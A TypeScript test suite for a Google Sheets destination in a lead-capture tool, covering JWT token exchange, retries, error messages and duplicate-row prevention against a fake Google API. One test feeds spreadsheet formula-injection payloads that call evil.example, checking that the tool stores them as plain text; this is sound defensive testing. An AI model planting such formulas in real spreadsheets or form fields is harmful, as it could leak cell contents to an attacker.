import { generateKeyPairSync, verify } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseConfig } from '../src/config.js';
import {
  columnLetter,
  createGoogleSheets,
  GoogleSheetsDestinationSchema,
  quoteSheet,
} from '../src/destinations/google-sheets.js';
import {
  DEFAULT_COLUMNS,
  deliverOnce,
  deliverTimes,
  deliveryContext,
  type FakeVendor,
  forwardTo,
  outcomeOf,
  type RecordedRequest,
  SAMPLE_LEAD_COLUMNS,
  sampleLead,
  useVendorDoubles,
  type VendorAnswer,
} from './dest-helpers.js';
import { PACKAGE_DIR } from './helpers.js';

const SPREADSHEET_ID = '1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms';
const CLIENT_EMAIL = 'leadkit@acme-leads.iam.gserviceaccount.com';
const KEY_ID = '3f1c0d2b9e8a7f6e5d4c3b2a190817161514131a';
const SCOPE = 'https://www.googleapis.com/auth/spreadsheets';

// The key pair of the "service account": the double verifies the JWT with the public half.
const keys = generateKeyPairSync('rsa', {
  modulusLength: 2048,
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});
// A key Google does not know (deleted key): its signatures fail verification.
const otherKey = generateKeyPairSync('rsa', {
  modulusLength: 2048,
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});

const startVendor = useVendorDoubles();

const b64urlJson = (part: string) => JSON.parse(Buffer.from(part, 'base64url').toString('utf8'));

interface FakeGoogle {
  v: FakeVendor;
  /** The "Leads" tab: the header row, then appended rows. */
  rows: string[][];
  tokensIssued: string[];
  /** Claims of every verified JWT. */
  claims: Record<string, unknown>[];
}

type SheetsRoute = (req: RecordedRequest, i: number) => VendorAnswer | Promise<VendorAnswer>;

/**
 * Google's token endpoint and the two Sheets methods, answering as documented. The token endpoint
 * verifies the JWT's RS256 signature with the test's public key and checks its claims, answering
 * `invalid_grant` like Google when either is wrong. `sheets` may replace the Sheets answer.
 */
async function fakeGoogle(sheets?: SheetsRoute): Promise<FakeGoogle> {
  const state: Omit<FakeGoogle, 'v'> = {
    rows: [[...HEADER]],
    tokensIssued: [],
    claims: [],
  };
  let origin = '';
  const v = await startVendor(async (req, i) => {
    if (req.method === 'POST' && req.path === '/token') return token(req);
    if (!req.path.startsWith(`/v4/spreadsheets/${SPREADSHEET_ID}/values/`)) {
      return googleError(404, 'NOT_FOUND', 'Requested entity was not found.');
    }
    const auth = req.headers.authorization ?? '';
    if (!state.tokensIssued.some((t) => auth === `Bearer ${t}`)) {
      return googleError(
        401,
        'UNAUTHENTICATED',
        'Request had invalid authentication credentials. Expected OAuth 2 access token, login cookie or other valid authentication credential.',
      );
    }
    if (sheets) return sheets(req, i);
    return sheetsApi(req);
  });
  origin = v.origin;

  function token(req: RecordedRequest): VendorAnswer {
    expect(req.headers['content-type']).toBe('application/x-www-form-urlencoded;charset=UTF-8');
    const form = new URLSearchParams(req.body);
    expect([...form.keys()]).toEqual(['grant_type', 'assertion']);
    expect(form.get('grant_type')).toBe('urn:ietf:params:oauth:grant-type:jwt-bearer');
    const [header, payload, signature] = (form.get('assertion') ?? '').split('.');
    const signed = verify(
      'sha256',
      Buffer.from(`${header}.${payload}`),
      keys.publicKey,
      Buffer.from(signature ?? '', 'base64url'),
    );
    if (!signed)
      return { status: 400, body: { error: 'invalid_grant', error_description: 'Invalid JWT Signature.' } };
    expect(b64urlJson(header!)).toEqual({ alg: 'RS256', typ: 'JWT', kid: KEY_ID });
    const claims = b64urlJson(payload!) as Record<string, number | string>;
    state.claims.push(claims);
    expect(Object.keys(claims).sort()).toEqual(['aud', 'exp', 'iat', 'iss', 'scope']);
    expect(claims).toMatchObject({ iss: CLIENT_EMAIL, scope: SCOPE, aud: `${origin}/token` });
    expect(Number(claims.exp) - Number(claims.iat)).toBeLessThanOrEqual(3600);
    expect(Number(claims.exp)).toBeGreaterThan(Number(claims.iat));
    const issued = `ya29.c.token-${state.tokensIssued.length + 1}`;
    state.tokensIssued.push(issued);
    return { status: 200, body: { access_token: issued, expires_in: 3599, token_type: 'Bearer' } };
  }

  function sheetsApi(req: RecordedRequest): VendorAnswer {
    const rest = decodeURIComponent(req.path.slice(`/v4/spreadsheets/${SPREADSHEET_ID}/values/`.length));
    if (req.method === 'POST' && rest.endsWith(':append')) {
      const range = rest.slice(0, -':append'.length);
      const row = (req.json as { values: string[][] }).values[0]!;
      state.rows.push(row);
      const n = state.rows.length;
      return {
        status: 200,
        body: {
          spreadsheetId: SPREADSHEET_ID,
          tableRange: `Leads!A1:O${n - 1}`,
          updates: {
            spreadsheetId: SPREADSHEET_ID,
            updatedRange: `Leads!A${n}:${range.split(':')[1]}${n}`,
            updatedRows: 1,
            updatedColumns: row.length,
            updatedCells: row.length,
          },
        },
      };
    }
    if (req.method === 'GET') {
      const column = /!([A-Z]+):\1$/.exec(rest)?.[1] ?? '';
      const index = [...column].reduce((n, c) => n * 26 + c.charCodeAt(0) - 64, 0) - 1;
      const values = state.rows.map((r) => r[index] ?? '');
      while (values.length && values.at(-1) === '') values.pop();
      return {
        status: 200,
        body: {
          range: rest.replace(/!([A-Z]+):\1$/, `!$11:$1${state.rows.length}`),
          majorDimension: req.query.get('majorDimension') ?? 'ROWS',
          ...(values.length ? { values: [values] } : {}),
        },
      };
    }
    return googleError(400, 'INVALID_ARGUMENT', `unexpected ${req.method} ${rest}`);
  }

  return { v, ...state };
}

/** Google's error model (google.rpc.Status in JSON). */
function googleError(code: number, status: string, message: string, details?: unknown[]): VendorAnswer {
  return { status: code, body: { error: { code, message, status, ...(details ? { details } : {}) } } };
}

const serviceAccountKey = (origin: string, privateKey = keys.privateKey) => ({
  type: 'service_account',
  project_id: 'acme-leads',
  private_key_id: KEY_ID,
  private_key: privateKey,
  client_email: CLIENT_EMAIL,
  client_id: '109876543210987654321',
  auth_uri: 'https://accounts.google.com/o/oauth2/auth',
  token_uri: `${origin}/token`,
  auth_provider_x509_cert_url: 'https://www.googleapis.com/oauth2/v1/certs',
  universe_domain: 'googleapis.com',
});

const config = (origin: string, over: Record<string, unknown> = {}) => ({
  type: 'google-sheets' as const,
  name: 'sheet',
  spreadsheetId: SPREADSHEET_ID,
  credentials: serviceAccountKey(origin),
  baseUrl: origin,
  ...over,
});

const LEAD_ID = 'lead_01J8Z3W6PQ4B7N2M5K8X';
/** The header row the docs suggest for the default columns. */
const HEADER = DEFAULT_COLUMNS;
/** The row of sampleLead() under the default columns ("First campaign" empty: no first-touch campaign). */
const DEFAULT_ROW = DEFAULT_COLUMNS.map((column) => SAMPLE_LEAD_COLUMNS[column] ?? '');

describe('Google Sheets', () => {
  it('signs a JWT, exchanges it for a token and appends one RAW row with the default columns', async () => {
    const g = await fakeGoogle();
    const result = await deliverOnce(createGoogleSheets(config(g.v.origin)));
    expect(result).toEqual({ kind: 'ok', status: 200, detail: 'row appended at Leads!A2:O2' });
    expect(g.v.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      'POST /token',
      `POST /v4/spreadsheets/${SPREADSHEET_ID}/values/'Leads'!A%3AO:append`,
    ]);
    // iat is the attempt's time; exp one hour later (Google's maximum).
    expect(g.claims[0]).toMatchObject({ iat: 1788256800, exp: 1788256800 + 3600 });
    const append = g.v.requests[1]!;
    expect(Object.fromEntries(append.query)).toEqual({
      valueInputOption: 'RAW',
      insertDataOption: 'INSERT_ROWS',
    });
    expect(append.headers.authorization).toBe('Bearer ya29.c.token-1');
    expect(append.headers['content-type']).toBe('application/json');
    expect(append.json).toEqual({ values: [DEFAULT_ROW] });
    expect(g.rows.at(-1)).toEqual(DEFAULT_ROW);
  });

  it('sends formula-like visitor input verbatim with RAW, so the sheet stores text, not formulas', async () => {
    const g = await fakeGoogle();
    const hostile = {
      name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      email: 'ada@example.com',
      company: '+SUM(1,2)',
      phone: '-2+3',
      message: '@IMPORTXML("https://evil.example","//a")',
    };
    await createGoogleSheets(
      config(g.v.origin, { columns: ['full_name', 'company', 'phone', 'message'] }),
    ).deliver(sampleLead({ fields: hostile }), deliveryContext());
    const append = g.v.requests[1]!;
    // RAW: "The values the user has entered will not be parsed and will be stored as-is."
    expect(append.query.get('valueInputOption')).toBe('RAW');
    expect(append.json).toEqual({
      values: [[hostile.name, hostile.company, hostile.phone, hostile.message]],
    });
    expect(append.path).toBe(`/v4/spreadsheets/${SPREADSHEET_ID}/values/'Leads'!A%3AD:append`);
  });

  it('columns take canonical names, lead paths, constants and fallbacks; missing values are empty cells', async () => {
    const g = await fakeGoogle();
    const dest = createGoogleSheets(
      config(g.v.origin, {
        sheet: "Bob's leads",
        columns: [
          'email',
          'fields.budget',
          { value: 'Website' },
          ['job_title', { value: '(none)' }],
          'lead_id',
        ],
      }),
    );
    const result = await deliverOnce(dest);
    expect(result.kind).toBe('ok');
    expect(decodeURIComponent(g.v.requests[1]!.path)).toBe(
      `/v4/spreadsheets/${SPREADSHEET_ID}/values/'Bob''s leads'!A:E:append`,
    );
    expect(g.v.requests[1]!.json).toEqual({
      values: [['ada@example.com', '', 'Website', '(none)', LEAD_ID]],
    });
  });

  it('reuses the access token until shortly before it expires', async () => {
    const g = await fakeGoogle();
    const dest = createGoogleSheets(config(g.v.origin));
    const at = (minutes: number) => deliveryContext({ now: new Date(Date.UTC(2026, 8, 1, 10, minutes)) });
    for (const minutes of [0, 1, 50]) expect((await dest.deliver(sampleLead(), at(minutes))).kind).toBe('ok');
    expect(g.tokensIssued).toEqual(['ya29.c.token-1']);
    // 56 minutes in, the 3599 s token has less than 5 minutes left: a new one is fetched.
    expect((await dest.deliver(sampleLead(), at(56))).kind).toBe('ok');
    expect(g.tokensIssued).toEqual(['ya29.c.token-1', 'ya29.c.token-2']);
    expect(g.v.requests.filter((r) => r.path === '/token')).toHaveLength(2);
    expect(g.v.requests.at(-1)!.headers.authorization).toBe('Bearer ya29.c.token-2');
  });

  it('a 401 to a cached token fetches a fresh one and resends once', async () => {
    let refused = false;
    const g = await fakeGoogle((req) => {
      if (!refused && req.headers.authorization === 'Bearer ya29.c.token-1') {
        refused = true;
        return googleError(401, 'UNAUTHENTICATED', 'Request had invalid authentication credentials.');
      }
      return {
        status: 200,
        body: { spreadsheetId: SPREADSHEET_ID, updates: { updatedRange: 'Leads!A9:O9' } },
      };
    });
    const result = await deliverOnce(createGoogleSheets(config(g.v.origin)));
    expect(result).toEqual({ kind: 'ok', status: 200, detail: 'row appended at Leads!A9:O9' });
    expect(g.v.requests.map((r) => r.path.split('/').at(-1))).toEqual([
      'token',
      "'Leads'!A%3AO:append",
      'token',
      "'Leads'!A%3AO:append",
    ]);
  });

  it('a key Google refuses fails for good with a hint (the double verifies the signature)', async () => {
    const g = await fakeGoogle();
    const dest = createGoogleSheets(
      config(g.v.origin, { credentials: serviceAccountKey(g.v.origin, otherKey.privateKey) }),
    );
    const result = await deliverOnce(dest);
    expect(result).toEqual({
      kind: 'fail',
      status: 400,
      reason: `Google OAuth answered 400: invalid_grant: Invalid JWT Signature. Google refused the service account ${CLIENT_EMAIL}: the key may have been deleted or the account disabled. Create a new JSON key (IAM → Service accounts → Keys), put it in "credentials", then replay.`,
    });
    expect(g.v.requests.map((r) => r.path)).toEqual(['/token']);
  });

  it('a missing tab (400 INVALID_ARGUMENT) fails naming the tab', async () => {
    const g = await fakeGoogle(() =>
      googleError(400, 'INVALID_ARGUMENT', "Unable to parse range: 'Leads'!A:O"),
    );
    const result = await deliverOnce(createGoogleSheets(config(g.v.origin)));
    expect(result).toEqual({
      kind: 'fail',
      status: 400,
      reason:
        'Google Sheets (append) answered 400: INVALID_ARGUMENT: Unable to parse range: \'Leads\'!A:O. Create a tab named "Leads" in the spreadsheet, or set "sheet" to an existing tab, then replay.',
    });
  });

  it('403 says to share the sheet with the service account, or to enable the API; 404 says to check the id', async () => {
    const answers = [
      googleError(403, 'PERMISSION_DENIED', 'The caller does not have permission'),
      googleError(
        403,
        'PERMISSION_DENIED',
        'Google Sheets API has not been used in project 123456789012 before or it is disabled.',
        [{ '@type': 'type.googleapis.com/google.rpc.ErrorInfo', reason: 'SERVICE_DISABLED' }],
      ),
      googleError(404, 'NOT_FOUND', 'Requested entity was not found.'),
    ];
    const g = await fakeGoogle((_req, i) => answers[i - 1]!);
    const dest = createGoogleSheets(config(g.v.origin));
    const reasons = [];
    for (let i = 0; i < answers.length; i++) {
      const result = await deliverOnce(dest);
      expect(result.kind).toBe('fail');
      reasons.push(result.kind === 'fail' ? result.reason : '');
    }
    expect(reasons).toEqual([
      `Google Sheets (append) answered 403: PERMISSION_DENIED: The caller does not have permission. Share the spreadsheet with ${CLIENT_EMAIL} as an Editor, then replay.`,
      'Google Sheets (append) answered 403: PERMISSION_DENIED: Google Sheets API has not been used in project 123456789012 before or it is disabled. Enable the Google Sheets API in the service account’s Google Cloud project (APIs & Services → Library), then replay.',
      'Google Sheets (append) answered 404: NOT_FOUND: Requested entity was not found. Check spreadsheetId: it is the part of the sheet’s URL between /d/ and /edit.',
    ]);
  });

  it('429 honours Retry-After, else waits out the per-minute quota; 5xx retries', async () => {
    const quota =
      "Quota exceeded for quota metric 'Write requests' and limit 'Write requests per minute per user' of service 'sheets.googleapis.com' for consumer 'project_number:123456789012'.";
    const answers = [
      { ...googleError(429, 'RESOURCE_EXHAUSTED', quota), headers: { 'retry-after': '30' } },
      googleError(429, 'RESOURCE_EXHAUSTED', quota),
      googleError(503, 'UNAVAILABLE', 'The service is currently unavailable.'),
    ];
    const g = await fakeGoogle((_req, i) => answers[i - 1]!);
    const dest = createGoogleSheets(config(g.v.origin));
    const results = await deliverTimes(dest, answers.length);
    expect(results.map(outcomeOf)).toEqual([
      [429, 30_000],
      [429, 60_000],
      [503, undefined],
    ]);
    expect(results[0]).toMatchObject({
      reason: `Google Sheets (append) answered 429: RESOURCE_EXHAUSTED: ${quota}`,
    });
  });

  it('a retry after a timeout reads the lead id column and does not append a second row', async () => {
    const attempt1 = new AbortController();
    let appends = 0;
    const g = await fakeGoogle();
    // The first append is stored, but its answer comes after the attempt timed out.
    const forward = forwardTo(g.v.origin);
    const slow = await startVendor(async (req, i) => {
      const reply = await forward(req, i);
      if (req.path.endsWith(':append') && appends++ === 0) {
        attempt1.abort();
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      return reply;
    });
    const cfg = config(slow.origin, { credentials: serviceAccountKey(g.v.origin) });
    const dest = createGoogleSheets(cfg);
    const first = await dest.deliver(sampleLead(), deliveryContext({ signal: attempt1.signal }));
    expect(first).toEqual({
      kind: 'retry',
      reason:
        'Google Sheets (127.0.0.1:' +
        new URL(slow.origin).port +
        ') did not answer before the attempt timed out',
    });
    expect(g.rows).toHaveLength(2);

    const second = await dest.deliver(sampleLead(), deliveryContext({ attempt: 2 }));
    expect(second).toEqual({
      kind: 'ok',
      detail: `row for ${LEAD_ID} was already in Leads (an earlier attempt appended it); not appended again`,
    });
    expect(g.rows).toHaveLength(2);
    const lookup = g.v.requests.at(-1)!;
    expect(lookup.method).toBe('GET');
    expect(decodeURIComponent(lookup.path)).toBe(`/v4/spreadsheets/${SPREADSHEET_ID}/values/'Leads'!O:O`);
    expect(Object.fromEntries(lookup.query)).toEqual({ majorDimension: 'COLUMNS' });
    expect(lookup.headers.authorization).toBe('Bearer ya29.c.token-1');
  });

  it('a retry appends when the lead id is not in the column yet; the first attempt never reads', async () => {
    const g = await fakeGoogle();
    g.rows.push([
      '2026-08-30T10:00:00.000Z',
      'grace@example.com',
      'Grace Hopper',
      ...Array(11).fill(''),
      'lead_older',
    ]);
    const dest = createGoogleSheets(config(g.v.origin));
    const retry = await dest.deliver(sampleLead(), deliveryContext({ attempt: 3 }));
    expect(retry).toEqual({ kind: 'ok', status: 200, detail: 'row appended at Leads!A3:O3' });
    expect(g.v.requests.map((r) => r.method)).toEqual(['POST', 'GET', 'POST']);
    expect(g.rows.map((r) => r.at(-1))).toEqual(['Lead id', 'lead_older', LEAD_ID]);

    const first = await dest.deliver(sampleLead({ id: 'lead_second' }), deliveryContext());
    expect(first.kind).toBe('ok');
    expect(g.v.requests.slice(3).map((r) => r.method)).toEqual(['POST']);
  });

  it('finds the lead id in a column far larger than the 64 KB other answers are cut at', async () => {
    const g = await fakeGoogle();
    for (let i = 0; i < 5000; i++)
      g.rows.push([...Array(14).fill(''), `lead_01J8Z3W6PQ4B7N2M5K${String(i).padStart(4, '0')}`]);
    g.rows.push([...Array(14).fill(''), LEAD_ID]);
    const result = await createGoogleSheets(config(g.v.origin)).deliver(
      sampleLead(),
      deliveryContext({ attempt: 2 }),
    );
    expect(result.kind === 'ok' && result.detail).toMatch(/already in Leads/);
    expect(g.rows).toHaveLength(5002);
  });

  it('without a lead_id column a retry appends and says it could not look', async () => {
    const g = await fakeGoogle();
    const dest = createGoogleSheets(config(g.v.origin, { columns: ['email'] }));
    const result = await dest.deliver(sampleLead(), deliveryContext({ attempt: 2 }));
    expect(result).toEqual({
      kind: 'ok',
      status: 200,
      detail:
        'row appended at Leads!A2:A2; no "lead_id" column, so an earlier attempt’s row could not be looked for',
    });
    expect(g.v.requests.map((r) => r.method)).toEqual(['POST', 'POST']);
  });

  it('takes the key file from an env var as JSON text (escaped newlines too); errors name the key', async () => {
    const g = await fakeGoogle();
    const key = { ...serviceAccountKey(g.v.origin), private_key: keys.privateKey.replace(/\n/g, '\\n') };
    const parsed = parseConfig(
      {
        security: { allowHosts: ['127.0.0.1'] },
        destinations: [{ ...config(g.v.origin), credentials: { env: 'GOOGLE_SERVICE_ACCOUNT_KEY' } }],
      },
      { env: { GOOGLE_SERVICE_ACCOUNT_KEY: JSON.stringify(key) } },
    );
    const destination = parsed.destinations[0]!;
    expect(destination.type).toBe('google-sheets');
    const result = await deliverOnce(
      createGoogleSheets(destination as Parameters<typeof createGoogleSheets>[0]),
    );
    expect(result.kind).toBe('ok');

    const bad = GoogleSheetsDestinationSchema.safeParse({
      type: 'google-sheets',
      name: 'sheet',
      spreadsheetId: 'https://docs.google.com/spreadsheets/d/abc/edit',
      credentials: { ...serviceAccountKey(g.v.origin), client_email: undefined, private_key: 'secret' },
      columns: ['emial'],
    });
    expect(bad.success).toBe(false);
    expect(bad.error!.issues.map((i) => i.path.join('.'))).toEqual([
      'spreadsheetId',
      'credentials.client_email',
      'credentials.private_key',
      'columns.0',
    ]);
    const notJson = GoogleSheetsDestinationSchema.safeParse({
      ...config(g.v.origin),
      credentials: 'not json',
    });
    expect(notJson.error!.issues[0]!.message).toMatch(/must be the service account’s JSON key/);
  });

  it('names columns like A1 notation and quotes tab names', () => {
    expect([1, 26, 27, 52, 702, 703].map(columnLetter)).toEqual(['A', 'Z', 'AA', 'AZ', 'ZZ', 'AAA']);
    expect(quoteSheet('Leads')).toBe("'Leads'");
    expect(quoteSheet("Bob's leads")).toBe("'Bob''s leads'");
  });
});

describe('Google Sheets docs', () => {
  it('the example in docs/destinations.md is a valid config', () => {
    const doc = readFileSync(join(PACKAGE_DIR, 'docs', 'destinations.md'), 'utf8');
    const section = doc.slice(doc.indexOf('## Google Sheets'));
    const example = JSON.parse(/```json\n([\s\S]*?)```/.exec(section)![1]!);
    const key = JSON.stringify(serviceAccountKey('https://oauth2.googleapis.com'));
    const parsed = parseConfig({ destinations: [example] }, { env: { GOOGLE_SERVICE_ACCOUNT_KEY: key } });
    expect(parsed.destinations[0]).toMatchObject({
      type: 'google-sheets',
      sheet: 'Leads',
      credentials: { client_email: CLIENT_EMAIL, token_uri: 'https://oauth2.googleapis.com/token' },
    });
    // The header row the docs give has one name per default column.
    const header = /`(Received \|[^`]+)`/.exec(section)![1]!.split(' | ');
    expect(header).toEqual(HEADER);
    expect((parsed.destinations[0] as { columns: unknown[] }).columns).toHaveLength(HEADER.length);
  });
});
